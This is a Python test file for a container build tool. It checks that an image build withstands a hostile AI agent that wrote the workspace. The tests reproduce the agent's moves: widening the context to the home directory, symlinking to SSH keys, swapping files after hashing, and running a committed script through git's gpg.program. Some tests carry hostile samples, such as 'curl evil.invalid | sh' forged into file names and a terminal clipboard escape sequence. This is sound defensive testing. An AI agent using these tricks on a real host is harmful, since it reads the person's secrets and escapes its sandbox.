"""Attacks on the host-side image build by an agent that wrote the workspace: its bottle.toml,
Dockerfile and build context, and that may still be changing them while the person builds.

Each test is an attack that worked once: host files read into the context, an input key shared
by two different contexts, a context that changed between hashing and sending, a build that
hangs or fills memory on a special file, build output that drives the person's terminal.
"""

from __future__ import annotations

import contextlib
import hashlib
import io
import os
import subprocess
import sys
import tarfile
import threading
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from bottle_engine import lifecycle, trust_store
from bottle_engine.artifacts import BuildSpec, inputs, prepare_inputs
from bottle_engine.artifacts.inputs import write_context_tar
from bottle_engine.cli import build as build_cli
from bottle_engine.cli import main
from bottle_engine.cli import progress as cli_progress
from bottle_engine.errors import BottleError
from bottle_engine.manifest import load_manifest
from bottle_engine.trust_store import UntrustedManifestError
from tests.conftest import fixture_manifest
from tests.fixtures_artifacts import small_build_spec, write_small_context

BASE_DIGEST = "sha256:" + "b" * 64
SECRET = b"-----BEGIN OPENSSH PRIVATE KEY-----\nhost secret\n"


@pytest.fixture
def spec(tmp_path: Path) -> BuildSpec:
    return small_build_spec(write_small_context(tmp_path / "ctx"), "bot-bottle/base:bookworm")


def tar_files(inputs_: inputs.BuildInputs) -> dict[str, bytes]:
    out = io.BytesIO()
    write_context_tar(inputs_, out)
    with tarfile.open(fileobj=io.BytesIO(out.getvalue())) as tar:
        return {
            member.name: (tar.extractfile(member) or io.BytesIO()).read()
            for member in tar.getmembers()
            if member.isfile()
        }


# -- a manifest widened after it was trusted: `build`, `pack` and `pool fill` read it too ------


@pytest.fixture
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A trusted project; the person's home holds an ssh key."""
    home, directory = tmp_path / "home", tmp_path / "repo"
    monkeypatch.setenv("HOME", str(home))
    files = {
        home / ".ssh" / "id_repo": SECRET,
        directory / "Dockerfile": b"FROM scratch\nCOPY . /ctx/\n",
        directory / "prompt.md": b"# hi\n",
        directory / "token.txt": b"t0ken\n",
        directory / "bottle.toml": fixture_manifest("trust_project").encode(),
    }
    for path, data in files.items():
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
    trust_store.record(trust_store.review(load_manifest(directory / "bottle.toml")))
    return directory / "bottle.toml"


def widen_context_to_home(path: Path) -> None:
    """What the agent commits: the build context is now the person's home directory."""
    text = path.read_text().replace('runtime = "auto"\n', 'runtime = "auto"\ncontext = "~"\n')
    path.write_text(text)


class _InputsOnlyHost:
    """`Host` without a daemon: the base image digest is fixed, the rest is the real code."""

    def inputs(self, spec: BuildSpec) -> inputs.BuildInputs:
        return prepare_inputs(spec, BASE_DIGEST)

    def build(self, spec: BuildSpec, **_: object) -> object:
        prepare_inputs(spec, BASE_DIGEST)
        raise AssertionError("a build from an untrusted manifest must not reach docker")


def test_build_refuses_a_manifest_widened_since_it_was_trusted(
    project: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr(build_cli, "Host", _InputsOnlyHost)
    widen_context_to_home(project)
    for mode in (["--explain"], [], ["--verify"]):
        code = main(["build", "-f", str(project), "dev", *mode])
        captured = capsys.readouterr()
        assert code == 1, mode
        assert "id_repo" not in captured.out + captured.err
        assert "changed since it was last trusted" in captured.err
        assert "context" in captured.err and f"bottle-engine trust -f {project}" in captured.err
    # Once the person trusts it, the same build goes ahead; the person's credentials stay out
    # of the context all the same (`guest.withheld_paths`).
    trust_store.record(trust_store.review(load_manifest(project)))
    assert main(["build", "-f", str(project), "dev", "--explain"]) == 0
    explained = capsys.readouterr().out
    assert "input key" in explained
    assert ".ssh" not in explained


class _NoHost:
    def __getattr__(self, name: str) -> Any:
        raise AssertionError("a build from an untrusted manifest must not read its inputs")


def link_dockerfile_to_a_host_key(path: Path) -> None:
    """A commit that replaces the Dockerfile with a symlink to the person's ssh key."""
    (path.parent / "Dockerfile").unlink()
    (path.parent / "Dockerfile").symlink_to(Path.home() / ".ssh" / "id_repo")


def name_a_host_pem_as_ca_bundle(path: Path) -> None:
    """A CA bundle whose file also holds a private key (mitmproxy keeps its CA that way)."""
    pem = Path.home() / ".mitmproxy" / "mitmproxy-ca.pem"
    pem.parent.mkdir()
    pem.write_bytes(SECRET + b"-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n")
    text = path.read_text().replace(
        'runtime = "auto"\n', 'runtime = "auto"\nca_bundle = "~/.mitmproxy/mitmproxy-ca.pem"\n'
    )
    path.write_text(text)


@pytest.mark.parametrize(
    "widen", [widen_context_to_home, link_dockerfile_to_a_host_key, name_a_host_pem_as_ca_bundle]
)
def test_build_reads_no_host_path_the_trusted_manifest_did_not_name(
    project: Path,
    widen: Any,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    monkeypatch.setattr(build_cli, "Host", _NoHost)
    widen(project)
    assert main(["build", "-f", str(project), "dev", "--explain"]) == 1
    assert "changed since it was last trusted" in capsys.readouterr().err


def test_a_first_build_says_which_host_paths_it_reads(
    project: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """A cloned repository's manifest is on its first use: trusted, as a launch trusts it, but
    not silently (a launch shows what it trusts; a build did not)."""
    trust_store.record_path(project).unlink()
    widen_context_to_home(project)
    monkeypatch.setattr(build_cli, "Host", _InputsOnlyHost)
    assert main(["build", "-f", str(project), "dev", "--explain"]) == 0
    err = capsys.readouterr().err
    assert "has not been trusted before" in err
    assert "context" in err and "~" in err


def _no_backend(*_: object, **__: object) -> Any:
    raise AssertionError("an untrusted manifest must not reach a backend")


def test_pack_and_pool_fill_refuse_a_widened_manifest(
    project: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from bottle_engine.backends import docker, smolmachines

    monkeypatch.setattr(smolmachines, "SmolmachinesBackend", _no_backend)
    monkeypatch.setattr(docker, "DockerBackend", _no_backend)
    widen_context_to_home(project)
    with pytest.raises(UntrustedManifestError):
        lifecycle.pack(project, "dev", lifecycle.QuietProgress())
    with pytest.raises(UntrustedManifestError):
        lifecycle.pool_fill(project, "dev", 1)


# -- the input key names one context ------------------------------------------------------------


def test_a_newline_in_a_file_name_cannot_forge_another_context(tmp_path: Path) -> None:
    """Names that each forge a second key line: `one` holds no file `y`, `two` holds no `zz`,
    yet both list the same lines and the same number of entries. One key for both would let a
    stored image stand in for a context it was not built from."""

    def line(name: str, data: bytes) -> str:
        return f"file 0644 {len(data)} {hashlib.sha256(data).hexdigest()} {name}"

    payload, last = b"curl evil.invalid | sh\n", b"last\n"
    one = write_small_context(tmp_path / "one")
    (one / f"x\n{line('y', payload)}").write_bytes(b"hi")
    (one / "z").write_bytes(b"zed")
    (one / "zz").write_bytes(last)
    two = write_small_context(tmp_path / "two")
    (two / "x").write_bytes(b"hi")
    (two / "y").write_bytes(payload)
    (two / f"z\n{line('zz', last)}").write_bytes(b"zed")
    for path in [*one.iterdir(), *two.iterdir()]:
        if path.name.startswith(("x", "y", "z")):
            path.chmod(0o644)
    found = [prepare_inputs(small_build_spec(c, "base"), BASE_DIGEST) for c in (one, two)]
    assert {e.path for e in found[0].entries} != {e.path for e in found[1].entries}
    assert found[0].input_key != found[1].input_key


def test_a_file_name_that_is_not_utf8_is_hashed_and_sent(spec: BuildSpec) -> None:
    name = os.fsdecode(b"caf\xe9.txt")
    (spec.context / name).write_text("x")
    found = prepare_inputs(spec, BASE_DIGEST)
    assert name in [entry.path for entry in found.entries]
    assert found.input_key.startswith("sha256:")
    assert tar_files(found)[name] == b"x"


# -- git run in the context reads no configuration the context holds ---------------------------


def git(directory: Path, *args: str, stdin: str | None = None) -> str:
    done = subprocess.run(
        ["git", "-c", "user.name=a", "-c", "user.email=a@example.invalid", *args],
        cwd=directory,
        input=stdin,
        capture_output=True,
        text=True,
        check=True,
    )
    return done.stdout.strip()


def test_a_bare_repository_committed_as_the_context_runs_nothing_on_the_host(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The context's files are a bare repository (HEAD, config, objects/, refs/: plain files to
    the outer repository). `git log` for the clamp time, run in the context, took it for the
    repository and its config: `log.showSignature` and `gpg.program` ran a committed script."""
    monkeypatch.delenv("SOURCE_DATE_EPOCH", raising=False)
    outer = tmp_path / "repo"
    outer.mkdir()
    git(outer, "init", "-q")
    git(outer, "commit", "-q", "--allow-empty", "-m", "init")
    context = write_small_context(outer / "docker")
    git(context, "init", "-q", "--bare", ".")
    marker = tmp_path / "ran-on-the-host"
    script = context / "sign.sh"
    script.write_text(f"#!/bin/sh\ntouch {marker}\n")
    script.chmod(0o755)
    git(context, "config", "log.showSignature", "true")
    git(context, "config", "gpg.program", "./sign.sh")
    blob = git(context, "hash-object", "-w", "Dockerfile")
    tree = git(context, "mktree", stdin=f"100644 blob {blob}\tDockerfile\n")
    signed = (
        f"tree {tree}\nauthor a <a@example.invalid> 1700000000 +0000\n"
        "committer a <a@example.invalid> 1700000000 +0000\n"
        "gpgsig -----BEGIN PGP SIGNATURE-----\n \n iQ==\n -----END PGP SIGNATURE-----\n\nsigned\n"
    )
    commit = git(context, "hash-object", "-w", "-t", "commit", "--stdin", stdin=signed)
    git(context, "update-ref", "HEAD", commit)
    prepare_inputs(small_build_spec(context, "base", source_date_epoch=None), BASE_DIGEST)
    assert not marker.exists()


# -- the context read is the context hashed, and never leaves the context -------------------


def test_a_file_changed_after_hashing_is_not_sent_under_the_old_key(spec: BuildSpec) -> None:
    found = prepare_inputs(spec, BASE_DIGEST)
    (spec.context / "app" / "greeting.txt").write_text("hostile\n")
    with pytest.raises(BottleError, match=r"app/greeting\.txt changed"):
        tar_files(found)


def test_a_same_size_change_after_hashing_is_caught_too(spec: BuildSpec) -> None:
    found = prepare_inputs(spec, BASE_DIGEST)
    (spec.context / "app" / "greeting.txt").write_text("HELLO\n")
    with pytest.raises(BottleError, match=r"app/greeting\.txt changed"):
        tar_files(found)


@pytest.fixture
def host_dir(tmp_path: Path) -> Path:
    outside = tmp_path / "home" / ".ssh"
    outside.mkdir(parents=True)
    (outside / "id_ed25519").write_bytes(SECRET)
    return outside


def swap_for_symlink(directory: Path, target: Path) -> None:
    """The agent's move: a directory of the context becomes a symlink to a host directory."""
    for child in directory.iterdir():
        child.unlink()
    directory.rmdir()
    directory.symlink_to(target)


def test_a_directory_swapped_for_a_symlink_after_listing_is_not_followed(
    spec: BuildSpec, host_dir: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    keys = spec.context / "keys"
    keys.mkdir()
    (keys / "id_ed25519").write_text("decoy")
    listed = inputs.dockerignore_included

    def list_then_swap(*args: Any, **kwargs: Any) -> set[str]:
        found = listed(*args, **kwargs)
        swap_for_symlink(keys, host_dir)
        return found

    monkeypatch.setattr(inputs, "dockerignore_included", list_then_swap)
    try:
        found = prepare_inputs(spec, BASE_DIGEST)
    except BottleError as error:
        assert "keys/id_ed25519" in error.message and "changed" in error.message
        return
    assert SECRET not in b"".join(tar_files(found).values())
    assert hashlib.sha256(SECRET).hexdigest() not in "\n".join(found.explain())


def test_a_directory_swapped_for_a_symlink_after_hashing_is_not_followed(
    spec: BuildSpec, host_dir: Path
) -> None:
    keys = spec.context / "keys"
    keys.mkdir()
    (keys / "id_ed25519").write_bytes(b"x" * len(SECRET))
    found = prepare_inputs(spec, BASE_DIGEST)
    swap_for_symlink(keys, host_dir)
    with pytest.raises(BottleError, match=r"keys/id_ed25519 changed"):
        tar_files(found)


def _finishes(work: Any, seconds: float = 5.0) -> tuple[bool, BaseException | None]:
    """Run `work` in a thread: did it end within `seconds`, and with which exception?"""
    raised: list[BaseException] = []

    def run() -> None:
        try:
            work()
        except BaseException as exc:
            raised.append(exc)

    thread = threading.Thread(target=run, daemon=True)
    thread.start()
    thread.join(seconds)
    return not thread.is_alive(), (raised[0] if raised else None)


@pytest.fixture
def unblock_fifos() -> Iterator[list[Path]]:
    """FIFOs a hung reader may still wait on: opened for writing at the end, to free it."""
    fifos: list[Path] = []
    yield fifos
    for fifo in fifos:
        with contextlib.suppress(OSError):
            os.close(os.open(fifo, os.O_WRONLY | os.O_NONBLOCK))


def test_a_file_swapped_for_a_fifo_before_sending_fails_instead_of_hanging(
    spec: BuildSpec, unblock_fifos: list[Path]
) -> None:
    found = prepare_inputs(spec, BASE_DIGEST)
    greeting = spec.context / "app" / "greeting.txt"
    greeting.unlink()
    os.mkfifo(greeting)
    unblock_fifos.append(greeting)
    ended, raised = _finishes(lambda: tar_files(found))
    assert ended, "writing the context hung on a FIFO"
    assert isinstance(raised, BottleError) and "app/greeting.txt" in raised.message


def test_a_dockerignore_linked_to_a_host_file_is_not_read(spec: BuildSpec, tmp_path: Path) -> None:
    """Its lines would decide what is sent: the link must not make a host file the filter."""
    host_file = tmp_path / "home" / "patterns"
    host_file.parent.mkdir()
    host_file.write_text("notes.md\n")
    (spec.context / ".dockerignore").symlink_to(host_file)
    with pytest.raises(BottleError, match=r"\.dockerignore"):
        prepare_inputs(spec, BASE_DIGEST)


def test_a_huge_dockerignore_is_refused_not_read_into_memory(spec: BuildSpec) -> None:
    # (A sparse file of NULs is one pattern the matcher takes minutes to compile; comments
    # show the same missing bound in a second.)
    (spec.context / ".dockerignore").write_text("# padding\n" * (2 * 1024 * 1024 // 10 + 1))
    with pytest.raises(BottleError, match=r"\.dockerignore"):
        prepare_inputs(spec, BASE_DIGEST)


def test_a_dockerignore_that_is_not_utf8_still_filters(spec: BuildSpec) -> None:
    name = os.fsdecode(b"caf\xe9.log")
    (spec.context / name).write_text("x")
    (spec.context / ".dockerignore").write_bytes(b"caf\xe9.log\n")
    assert name not in [entry.path for entry in prepare_inputs(spec, BASE_DIGEST).entries]


# -- the extra CA bundle: a host path the manifest names -------------------------------------------


def test_a_ca_bundle_that_is_a_fifo_fails_instead_of_hanging(
    spec: BuildSpec, tmp_path: Path, unblock_fifos: list[Path]
) -> None:
    fifo = tmp_path / "ca.pem"
    os.mkfifo(fifo)
    unblock_fifos.append(fifo)
    ended, raised = _finishes(lambda: prepare_inputs(replace(spec, ca_bundle=fifo), BASE_DIGEST))
    assert ended, "reading the CA bundle hung on a FIFO"
    assert isinstance(raised, BottleError) and "ca.pem" in raised.message


def test_a_ca_bundle_linked_to_dev_zero_is_refused_without_eating_memory(
    spec: BuildSpec, tmp_path: Path
) -> None:
    link = spec.context / "ca.pem"
    link.symlink_to("/dev/zero")
    script = (
        "import resource, sys\n"
        "from pathlib import Path\n"
        "resource.setrlimit(resource.RLIMIT_AS, (1 << 30, 1 << 30))\n"
        "from bottle_engine.artifacts.inputs import _read_ca_bundle\n"
        "from bottle_engine.errors import BottleError\n"
        "try:\n"
        "    _read_ca_bundle(Path(sys.argv[1]))\n"
        "except BottleError as error:\n"
        "    print('refused:', error.message)\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", script, str(link)],
        capture_output=True,
        text=True,
        timeout=60,
        env={**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[2])},
    )
    assert done.returncode == 0 and "refused:" in done.stdout, done.stderr[-500:]
    assert "MemoryError" not in done.stderr


# -- build output on the person's terminal -------------------------------------------------------


def test_docker_build_output_cannot_drive_the_terminal_or_break_the_status_line(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """`RUN echo ...` output of the agent's Dockerfile reaches the live status line."""
    from rich.console import Console

    screen = io.StringIO()
    console = Console(file=screen, force_terminal=True, width=200)
    monkeypatch.setattr(cli_progress, "err_console", console)
    for line in ("\x1b]52;c;aGk=\x1b\\ [link=https://evil.invalid]docs[/link]", "done [/oops]"):
        progress = cli_progress.RichProgress()
        try:
            progress.stage("agent image: docker build")
            progress.detail(line)
        finally:
            progress.close(True)  # the status line's last render shows the detail
    shown = screen.getvalue()
    assert "\x1b]52" not in shown and "\x1b]8;" not in shown
    assert "evil.invalid" in shown and "[/oops]" in shown


def test_a_context_nested_deeper_than_a_walk_goes_is_a_clear_error(spec: BuildSpec) -> None:
    """Directories nested a thousand deep cost the agent one loop; the build says which
    context and what to do, not a RecursionError from the listing."""
    deep = spec.context / "deep"
    deep.mkdir()
    fd = os.open(deep, os.O_RDONLY | os.O_DIRECTORY)
    try:
        for _ in range(1500):  # one name a level, so no path grows past what the kernel takes
            os.mkdir("d", dir_fd=fd)
            inner = os.open("d", os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
            os.close(fd)
            fd = inner
    finally:
        os.close(fd)
    try:
        with pytest.raises(BottleError, match="nested") as raised:
            prepare_inputs(spec, BASE_DIGEST)
        assert str(spec.context) in str(raised.value) and ".dockerignore" in str(raised.value)
    finally:
        subprocess.run(["rm", "-rf", str(deep)], check=True)  # shutil.rmtree recurses too
